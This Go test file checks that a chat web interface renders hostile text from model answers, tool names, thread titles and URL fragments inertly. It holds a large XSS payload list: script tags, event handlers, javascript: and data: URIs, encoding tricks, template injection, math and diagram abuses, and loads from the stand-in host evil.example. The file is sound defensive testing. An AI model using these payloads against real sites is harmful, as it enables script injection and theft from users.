package ui_test

import (
	"fmt"
	"strings"
	"testing"
)

// hostile are strings that want more than to be read. Each that runs sets window.pwned; each that loads asks evil.example.
var hostile = []string{
	`<script>pwned=1</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=pwned=1>`, `<img src=https://evil.example/1.png>`,
	`<svg onload=pwned=1>`, `<svg><script>pwned=1</script></svg>`, `<svg><image href=https://evil.example/2.svg></svg>`, `<iframe src=https://evil.example></iframe>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<object data=https://evil.example/3></object>`, `<embed src=https://evil.example/4>`, `<link rel=stylesheet href=https://evil.example/5.css>`,
	`<style>@import "https://evil.example/6.css";</style>`, `<style>*{background:url(https://evil.example/7.png)}</style>`, `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href=https://evil.example/>`,
	`<form action=https://evil.example><button>x</button></form>`, `<input autofocus onfocus=pwned=1>`, `<video src=https://evil.example/8.mp4 autoplay></video>`, `<audio src=https://evil.example/9.mp3></audio>`,
	`<details open ontoggle=pwned=1>x</details>`, `<body onload=pwned=1>`, `<math><mi xlink:href="javascript:pwned=1">x</mi></math>`, `<a href="javascript:pwned=1">x</a>`,
	`<template><script>pwned=1</script></template>`, `<noscript><img src=x onerror=pwned=1></noscript>`, `<div style="background:url(https://evil.example/10)">x</div>`, `<table background=https://evil.example/11><tr><td>x</table>`,
	`[x](javascript:pwned=1)`, `[x](JaVaScRiPt:pwned=1)`, `[x](java&#115;cript:pwned=1)`, `[x](data:text/html,<script>opener.pwned=1</script>)`, `[x](vbscript:pwned=1)`, `[x](<javascript:pwned=1>)`,
	`[x](file:///etc/passwd)`, `[x](blob:https://evil.example/1)`, "[x](java\tscript:pwned=1)", `[x]( https://evil.example "a\" onmouseover=\"pwned=1")`, `[x][r]

[r]: javascript:pwned=1`, `[x]: https://evil.example/ref`,
	`<javascript:pwned=1>`, `<https://evil.example/auto>`, `https://evil.example/bare`, `www.evil.example/bare`, `evil@evil.example`, `ftp://evil.example/x`,
	`![x](https://evil.example/12.png)`, `![x](//evil.example/13.png)`, `![x](data:image/svg+xml,<svg onload=pwned=1>)`, `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cHduZWQ9MT4=)`, `![x](javascript:pwned=1)`, `![" onerror=pwned=1 x="](x)`,
	`[![x](https://evil.example/14.png)](javascript:pwned=1)`, "```html\n<script>pwned=1</script>\n```", "```\"><script>pwned=1</script>\nx\n```", "`<img src=x onerror=pwned=1>`", `$\href{javascript:pwned=1}{x}$`, "$$\n\\includegraphics{https://evil.example/15}\n$$",
	"```mermaid\ngraph LR; a[\"<img src=x onerror=pwned=1>\"]\n```", `| <img src=x onerror=pwned=1> | b |
|---|---|
| <svg onload=pwned=1> | ![x](https://evil.example/16.png) |`, `# <img src=x onerror=pwned=1>`, `> <script>pwned=1</script>`, `- <img src=x onerror=pwned=1>`, `- [x] <img src=x onerror=pwned=1>`, `[^1]: <script>pwned=1</script>`, `[^<img src=x onerror=pwned=1>]`,
	`&lt;script&gt;pwned=1&lt;/script&gt;`, `&#60;img src=x onerror=pwned=1&#62;`, `\u003cscript\u003epwned=1\u003c/script\u003e`, `</p></div><script>pwned=1</script>`, `"><img src=x onerror=pwned=1>`, `'-pwned-'`, `{{constructor.constructor('pwned=1')()}}`, "${pwned=1}",
	`<!--<img src=x onerror=pwned=1>-->`, `<![CDATA[<script>pwned=1</script>]]>`, `<?xml-stylesheet href="https://evil.example/17.xsl"?>`, `<x onclick=pwned=1>x</x>`, `__proto__`, `constructor`,
}

// The same wishes in other dress: every handler and every scheme in markup, in links, in reference links, in images and in fences.
func init() {
	for _, tag := range []string{"img src=x onerror", "svg onload", "body onpageshow", "input onfocus", "marquee onstart", "video onerror", "audio onerror", "details ontoggle", "select onfocus", "textarea onfocus", "keygen onfocus", "object onerror", "a onmouseover", "div onpointerenter", "p onanimationstart"} {
		hostile = append(hostile, "<"+tag+"=pwned=1>", "**<"+tag+"=pwned=1>**", "`<"+tag+"=pwned=1>`")
	}
	for _, to := range []string{"javascript:pwned=1", "JAVASCRIPT:pwned=1", "javascript&colon;pwned=1", "java%73cript:pwned=1", "vbscript:pwned=1", "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", "//evil.example/p", "\\\\evil.example\\p"} {
		hostile = append(hostile, "[a]("+to+")", "[a][z]\n\n[z]: "+to, "![a]("+to+")", "<"+to+">")
	}
	for _, lang := range []string{"mermaid", "math", "katex", "css", "svg"} {
		hostile = append(hostile, "```"+lang+"\nclick a href \"javascript:pwned=1\" <img src=https://evil.example/f.png onerror=pwned=1>\n```")
	}
	for _, formula := range []string{`\href{javascript:pwned=1}{x}`, `\url{https://evil.example}`, `\includegraphics{https://evil.example/g.png}`, `\htmlStyle{background:url(https://evil.example/h.png)}{x}`, `\class{x}{y}`, `\html@mathml{<img src=x onerror=pwned=1>}{x}`} {
		hostile = append(hostile, "$"+formula+"$", "$$\n"+formula+"\n$$")
	}
	hostile = append(hostile, `<div style="position:fixed;inset:0">over everything</div>`, `<style>#app{display:none}</style>`, `@import url(https://evil.example/i.css);`, `expression(pwned=1)`, `{{constructor.constructor('pwned=1')()}}`, `${pwned=1}`, `%3Cscript%3Epwned=1%3C/script%3E`, "\u202e<script>pwned=1</script>", "<scr\u200bipt>pwned=1</script>", `<a href="https://evil.example" ping="https://evil.example/ping">x</a>`)
}

// TestHostileTextIsOnlyRead lets a model, a tool's name, a title and an address say hostile things: no script runs, nothing is loaded.
func TestHostileTextIsOnlyRead(t *testing.T) {
	if len(hostile) < 150 {
		t.Fatalf("there are only %d strings", len(hostile))
	}
	s := newStage(t)
	p := browse(t).open(s.url())
	harmless := func(where string) {
		t.Helper()
		if p.is(`"pwned" in window`) {
			t.Errorf("%s: a script has run", where)
		}
		var elements []string
		p.eval(`[...document.querySelectorAll("iframe:not(.diagram-frame), object, embed, base, form[action], video, audio, #app script, #app style, #app link, #app svg image, [onerror], [onload], [onclick], [onfocus]")].map((e) => e.outerHTML)
			.concat([...document.querySelectorAll("#app a[href]")].filter((a) => !/^(https?:|mailto:)/.test(a.href)).map((a) => a.outerHTML))
			.concat([...document.querySelectorAll("#app img")].filter((i) => !/^data:image\/(png|jpeg|gif|webp);/.test(i.src) && !i.closest(".md-drawing")).map((i) => i.outerHTML))`, &elements)
		if len(elements) > 0 {
			t.Errorf("%s: text became markup: %q", where, elements)
		}
	}
	p.ask("Say: " + strings.Join(hostile, "\n\n"))
	p.until("all of it is answered", complete)
	harmless("answer")
	// Tool names, arguments and results; thread titles.
	for _, name := range []string{`<img src=x onerror=pwned=1>`, `__proto__`} {
		p.visit(s.url() + "/#/")
		p.ask("Call: " + name)
		p.until("the call is shown", complete)
		p.eval(`document.querySelectorAll(".line-head[aria-expanded=false], .work-head[aria-expanded=false]").forEach((e) => e.click())`, nil)
		harmless("tool " + name)
	}
	for i, title := range hostile[:12] {
		p.eval(fmt.Sprintf(`fetch("/threads", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ metadata: { title: %s, %s: "x%d" } }) }).then((r) => r.status)`, quote(title), quote(hostile[20+i]), i), nil)
	}
	for _, address := range []string{"#/t/%3Cscript%3Epwned=1%3C/script%3E", "#/run/<img src=x onerror=pwned=1>", "#/run/x?seq=<svg onload=pwned=1>", "#javascript:pwned=1"} {
		p.eval(`location.hash = `+quote(address), nil)
		p.until("something is shown", `document.querySelector("main")`)
		harmless("address " + address)
	}
	p.visit(s.url() + "/#/")
	p.until("the titles are listed", `document.querySelectorAll(".thread").length >= 14`)
	harmless("titles")
	p.clean()
}

// TestHostileStringsAreShownAsTheyAre makes sure that being safe does not mean losing text.
func TestHostileStringsAreShownAsTheyAre(t *testing.T) {
	s := newStage(t)
	p := browse(t).open(s.url())
	p.ask(`Say: look at <b onclick=pwned=1>this</b> and <script>pwned=1</script>`)
	p.until("it is answered", complete)
	if got := p.text(".message"); !strings.Contains(got, "<b onclick=pwned=1>this</b>") || !strings.Contains(got, "<script>pwned=1</script>") {
		t.Errorf("the page shows %q", got)
	}
	p.clean()
}
